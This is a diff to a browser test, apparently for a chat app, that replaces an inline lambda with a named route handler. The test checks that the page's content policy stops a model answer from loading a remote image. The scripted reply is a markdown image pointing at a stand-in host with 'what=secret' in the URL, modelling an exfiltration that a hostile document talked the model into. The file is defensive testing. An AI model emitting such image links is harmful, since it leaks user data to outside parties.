@@ -1,7 +1,7 @@
 """An answer that a hostile document talked the model into: nothing runs, nothing leaves."""
 
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, Page, Route, expect
 
 from chatkeep.testing import Reply, ScriptedModelServer
 from tests.browser.test_journey import answer, ask
@@ -43,8 +43,13 @@ def test_the_pages_policy_stops_a_remote_image(
 ) -> None:
     """A thread that names no domains lets answers show images from anywhere: the page's policy does not."""
     reached: list[str] = []
+
+    def reach(route: Route) -> None:
+        reached.append(route.request.url)
+        route.abort()
+
     context = browser.new_context()
-    context.route("**elsewhere.test/**", lambda route: (reached.append(route.request.url), route.abort()))
+    context.route("**elsewhere.test/**", reach)
     page = context.new_page()
     model.script(Reply("![a chart](https://elsewhere.test/pixel.png?what=secret)\n\nThe end of it."))
     page.goto(scripted.url)
